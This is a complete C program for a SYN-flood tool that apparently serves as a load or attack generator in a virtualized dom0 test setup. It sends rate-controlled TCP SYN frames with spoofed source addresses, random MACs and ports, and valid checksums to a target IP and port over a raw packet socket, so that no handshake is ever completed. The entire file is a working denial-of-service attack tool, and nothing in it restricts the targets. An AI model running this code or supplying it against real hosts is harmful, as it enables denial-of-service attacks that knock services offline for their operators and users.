/* synflood IFACE DSTMAC DSTIP DPORT RATE SECS [SEED]: sends TCP SYNs with spoofed source
 * addresses to DSTIP:DPORT (Ethernet DSTMAC) out of IFACE (an AF_PACKET socket in dom0, e.g. the
 * guest's vif), RATE per second (0: as fast as this host can) for SECS seconds. Every frame is
 * well formed with valid IPv4 and TCP checksums and the options a Linux client sends (MSS,
 * SACK-permitted, timestamps, window scale); source addresses alternate between on-link ones
 * in 10.0.0.0/24 that nobody has (.2-.99) and off-link ones in 198.18.0.0/15 (answered through the
 * gateway, which drops them), with random source MACs and ports, so no SYN-ACK is ever answered.
 * Prints "synflood: sent N SYNs in S s (R/s)". Exit 1 on setup errors. */
#include <arpa/inet.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

static uint64_t s = 88172645463325252ull;
static uint32_t rnd(void) { s ^= s << 13; s ^= s >> 7; s ^= s << 17; return (uint32_t)s; }

static double now(void) {
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return t.tv_sec + t.tv_nsec / 1e9;
}

static uint32_t sum(const unsigned char *p, size_t n, uint32_t acc) {
    for (size_t i = 0; i + 1 < n; i += 2) acc += (uint32_t)(p[i] << 8 | p[i + 1]);
    if (n & 1) acc += (uint32_t)(p[n - 1] << 8);
    return acc;
}

static uint16_t fold(uint32_t acc) {
    while (acc >> 16) acc = (acc & 0xffff) + (acc >> 16);
    return (uint16_t)~acc;
}

int main(int argc, char **argv) {
    if (argc < 7) {
        fprintf(stderr, "usage: synflood IFACE DSTMAC DSTIP DPORT RATE SECS [SEED]\n");
        return 1;
    }
    unsigned m[6];
    if (sscanf(argv[2], "%x:%x:%x:%x:%x:%x", &m[0], &m[1], &m[2], &m[3], &m[4], &m[5]) != 6) {
        fprintf(stderr, "synflood: bad MAC %s\n", argv[2]);
        return 1;
    }
    struct in_addr dst;
    if (inet_pton(AF_INET, argv[3], &dst) != 1) {
        fprintf(stderr, "synflood: bad address %s\n", argv[3]);
        return 1;
    }
    int dport = atoi(argv[4]);
    double rate = atof(argv[5]), secs = atof(argv[6]);
    if (dport <= 0 || dport > 65535 || rate < 0 || secs <= 0) {
        fprintf(stderr, "synflood: bad port, rate or duration\n");
        return 1;
    }
    if (argc > 7) s ^= (uint64_t)atoll(argv[7]) * 2654435761u;
    int fd = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ALL));
    if (fd < 0) { perror("synflood: socket"); return 1; }
    struct sockaddr_ll a = {0};
    a.sll_family = AF_PACKET;
    a.sll_ifindex = if_nametoindex(argv[1]);
    if (!a.sll_ifindex) { fprintf(stderr, "synflood: no interface %s\n", argv[1]); return 1; }
    a.sll_halen = 6;
    for (int i = 0; i < 6; i++) a.sll_addr[i] = (unsigned char)m[i];

    /* Ethernet 14 + IPv4 20 + TCP 20 + options 20 = 74 bytes, as Linux's SYNs. */
    unsigned char f[74];
    const unsigned char opts[20] = {2, 4, 0x05, 0xb4, /* MSS 1460 */
                                    4, 2,             /* SACK permitted */
                                    8, 10, 0, 0, 0, 0, 0, 0, 0, 0, /* timestamps */
                                    1, 3, 3, 7};      /* NOP, window scale 7 */
    long sent = 0;
    double t0 = now(), end = t0 + secs;
    for (;;) {
        double t = now();
        if (t >= end) break;
        if (rate > 0 && sent >= (long)((t - t0) * rate)) {
            /* Ahead of the rate: sleep 5 ms, then send the batch that is due (few wakeups: the
             * emulated dom0 has one vCPU). */
            struct timespec d = {0, 5000000};
            nanosleep(&d, 0);
            continue;
        }
        memset(f, 0, sizeof f);
        for (int i = 0; i < 6; i++) f[i] = (unsigned char)m[i];
        uint32_t r = rnd();
        f[6] = 0x02; f[7] = r; f[8] = r >> 8; f[9] = r >> 16; f[10] = r >> 24; f[11] = sent;
        f[12] = 0x08; f[13] = 0x00;
        unsigned char *ip = f + 14, *tcp = ip + 20;
        ip[0] = 0x45; ip[2] = 0; ip[3] = 60; /* total length */
        ip[4] = rnd(); ip[5] = rnd();          /* id */
        ip[6] = 0x40;                          /* DF */
        ip[8] = 64; ip[9] = 6;                 /* TTL, TCP */
        uint32_t src = (sent & 1) ? (0xc6120000u | (rnd() & 0x1ffff))        /* 198.18/15 */
                                  : (0x0a000000u | (2 + rnd() % 98));         /* 10.0.0.2-99 */
        ip[12] = src >> 24; ip[13] = src >> 16; ip[14] = src >> 8; ip[15] = src;
        memcpy(ip + 16, &dst, 4);
        uint16_t c = fold(sum(ip, 20, 0));
        ip[10] = c >> 8; ip[11] = c;
        uint16_t sport = 1024 + rnd() % 64000;
        uint32_t seq = rnd();
        tcp[0] = sport >> 8; tcp[1] = sport; tcp[2] = dport >> 8; tcp[3] = dport;
        tcp[4] = seq >> 24; tcp[5] = seq >> 16; tcp[6] = seq >> 8; tcp[7] = seq;
        tcp[12] = 10 << 4;    /* data offset: 40 bytes */
        tcp[13] = 0x02;       /* SYN */
        tcp[14] = 0xfa; tcp[15] = 0xf0; /* window 64240 */
        memcpy(tcp + 20, opts, sizeof opts);
        uint32_t tsval = rnd();
        tcp[28] = tsval >> 24; tcp[29] = tsval >> 16; tcp[30] = tsval >> 8; tcp[31] = tsval;
        unsigned char pseudo[12];
        memcpy(pseudo, ip + 12, 8);
        pseudo[8] = 0; pseudo[9] = 6; pseudo[10] = 0; pseudo[11] = 40;
        c = fold(sum(tcp, 40, sum(pseudo, 12, 0)));
        tcp[16] = c >> 8; tcp[17] = c;
        if (sendto(fd, f, sizeof f, 0, (struct sockaddr *)&a, sizeof a) < 0) {
            usleep(100); /* the vif's queue is full: try again */
            continue;
        }
        sent++;
    }
    double took = now() - t0;
    printf("synflood: sent %ld SYNs in %.1f s (%.0f/s)\n", sent, took, sent / took);
    return 0;
}
